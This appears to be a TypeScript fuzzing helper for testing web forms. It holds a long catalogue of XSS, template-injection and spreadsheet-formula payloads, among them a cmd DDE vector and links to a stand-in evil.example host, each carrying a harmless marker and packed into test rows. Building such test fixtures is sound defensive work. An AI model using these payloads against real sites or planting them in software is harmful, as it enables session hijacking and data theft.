/** What each would do if it were more than text. */
const mark = (at: number) => `__xss=${at}`

/** Ways out of text, attributes, addresses, scripts, styles, templates and documents of other kinds. */
const ways: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</ScRiPt ><ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<script/x>${deed}</script>`,
  (deed) => `<script\n>${deed}</script\n>`,
  (deed) => `<script src=data:,${deed}></script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</style><script>${deed}</script>`,
  (deed) => `</noscript><script>${deed}</script>`,
  (deed) => `</template><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script>`,
  (deed) => `<!--<script>${deed}//-->`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<![CDATA[<script>${deed}</script>]]>`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `<?xml?><script>${deed}</script>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img/src=x/onerror=${deed}>`,
  (deed) => `<img src=x OnErRoR=${deed}>`,
  (deed) => `<img src=x\tonerror=${deed}>`,
  (deed) => `<img src="x" onerror\n=\n'${deed}'>`,
  (deed) => `<image src=x onerror=${deed}>`,
  (deed) => `"><img src=x onerror=${deed}>`,
  (deed) => `'><img src=x onerror=${deed}>`,
  (deed) => `\`><img src=x onerror=${deed}>`,
  (deed) => `></a><img src=x onerror=${deed}>`,
  (deed) => `</title><img src=x onerror=${deed}>`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg/onload=${deed}>`,
  (deed) => `"><svg onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><script href=data:,${deed} /></svg>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x>`,
  (deed) => `<svg><set onbegin=${deed} attributeName=x>`,
  (deed) => `<svg><a xlink:href=javascript:${deed}>x</a>`,
  (deed) => `<svg><foreignObject><img src=x onerror=${deed}>`,
  (deed) => `<math><mtext><script>${deed}</script>`,
  (deed) => `<math href=javascript:${deed}>x</math>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<body onpageshow=${deed}>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<select autofocus onfocus=${deed}>`,
  (deed) => `<textarea autofocus onfocus=${deed}>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<video src=x onerror=${deed}>`,
  (deed) => `<video><source onerror=${deed}>`,
  (deed) => `<audio src=x onerror=${deed}>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<iframe src=javascript:${deed}>`,
  (deed) => `<iframe onload=${deed}>`,
  (deed) => `<object data=javascript:${deed}>`,
  (deed) => `<object onerror=${deed} data=x>`,
  (deed) => `<embed src=javascript:${deed}>`,
  (deed) => `<link rel=stylesheet href=x onerror=${deed}>`,
  (deed) => `<link rel=import href=data:text/html,x>${deed}`,
  (deed) => `<style>@import 'x';</style onload=${deed}>`,
  (deed) => `<style onload=${deed}></style>`,
  (deed) => `<style>*{background:url(javascript:${deed})}`,
  (deed) => `<meta http-equiv=refresh content=0;javascript:${deed}>`,
  (deed) => `<base href=javascript:${deed}//>`,
  (deed) => `<form action=javascript:${deed}><button>x`,
  (deed) => `<button formaction=javascript:${deed}>x`,
  (deed) => `<isindex action=javascript:${deed}>`,
  (deed) => `<a href=javascript:${deed}>x</a>`,
  (deed) => `<a href="java\tscript:${deed}">x</a>`,
  (deed) => `<a href="&#106;avascript:${deed}">x</a>`,
  (deed) => `<a href=" javascript:${deed}">x</a>`,
  (deed) => `<a href=data:text/html,<script>${deed}</script>>x`,
  (deed) => `<a href=vbscript:${deed}>x</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `//evil.example/${deed}`,
  (deed) => `\\\\evil.example\\${deed}`,
  (deed) => `" onmouseover="${deed}`,
  (deed) => `' onmouseover='${deed}`,
  (deed) => `" autofocus onfocus="${deed}`,
  (deed) => `x onerror=${deed} `,
  (deed) => `" style="animation:x" onanimationstart="${deed}`,
  (deed) => `'-(${deed})-'`,
  (deed) => `"-(${deed})-"`,
  (deed) => `\\"-(${deed})-//`,
  (deed) => `\\u0022-(${deed})-//`,
  (deed) => `';${deed}//`,
  (deed) => `";${deed}//`,
  (deed) => `\`;${deed}//`,
  (deed) => `\${${deed}}`,
  (deed) => `\u2028${deed}\u2029`,
  (deed) => `*/${deed}/*`,
  (deed) => `}};${deed};{{`,
  (deed) => `{{${deed}}}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `#{${deed}}`,
  (deed) => `[[${deed}]]`,
  (deed) => `![x](javascript:${deed})`,
  (deed) => `[x](javascript:${deed})`,
  (deed) => `<javascript:${deed}>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `\\x3cscript\\x3e${deed}\\x3c/script\\x3e`,
  (deed) => `\\u003cscript\\u003e${deed}`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  (deed) => `<img src=x onerror=&#${'_'.charCodeAt(0)};_xss=${deed.split('=')[1]}>`,
  (deed) => `<xss style=behavior:url(x)>${deed}</xss>`,
  (deed) => `<marquee onstart=${deed}>x`,
  (deed) => `<dialog open onclose=${deed}>`,
  (deed) => `<p onclick=${deed} accesskey=x>x`,
  (deed) => `<x contenteditable autofocus onfocus=${deed}>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `=HYPERLINK("javascript:${deed}")`,
  (deed) => `@SUM(${deed})`,
  (deed) => `+cmd|' /C ${deed}'!A0`,
  (deed) => `\u202e${deed}>tpircs<\u2069`,
]

export const payloads: readonly string[] = ways.map((way, at) => way(mark(at + 1)))

/** What is sent through every field: each day every sixth and all that a spreadsheet would work out, and with `PAYLOADS=all` all. */
export const sent = payloads.filter((text, at) => process.env.PAYLOADS === 'all' || at % 6 === 0 || /^[=@+]/.test(text))

const joined = payloads.join(' ')

/** As a form with one line would send it. */
export const line = (text: string) => text.replaceAll(/[\p{Cc}\u2028\u2029]/gu, ' ')

/** So many characters of them, again and again. */
export const endless = (length = 10_000): string => joined.repeat(Math.ceil(length / joined.length)).slice(0, length)

/** The same with nowhere to break a line. */
export const unbroken = (length = 10_000): string => {
  const word = joined.replaceAll(/[\s\p{Cc}\u2028\u2029]+/gu, '')
  return word.repeat(Math.ceil(length / word.length)).slice(0, length)
}

/** All that are sent, so many to a field as it has room for: one text for each time that the field must be filled. */
export function packed(most: number): string[] {
  const packs: string[] = []
  for (const payload of sent.filter(({ length }) => length <= most)) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most) packs[packs.length - 1] = `${last} ${payload}`
    else packs.push(payload)
  }
  return packs
}

/** Rows in which each field has had every payload that is sent and that it has room for, with as few of them as that takes. */
export function rowsOf<F extends string>(fields: Record<F, number>): Record<F, string>[] {
  const packs = (Object.entries(fields) as [F, number][]).map(([name, most]) => [name, packed(most)] as const)
  const count = Math.max(...packs.map(([, all]) => all.length))
  return Array.from(
    { length: count },
    (_, at) => Object.fromEntries(packs.map(([name, all]) => [name, all[at % all.length]!])) as Record<F, string>,
  )
}
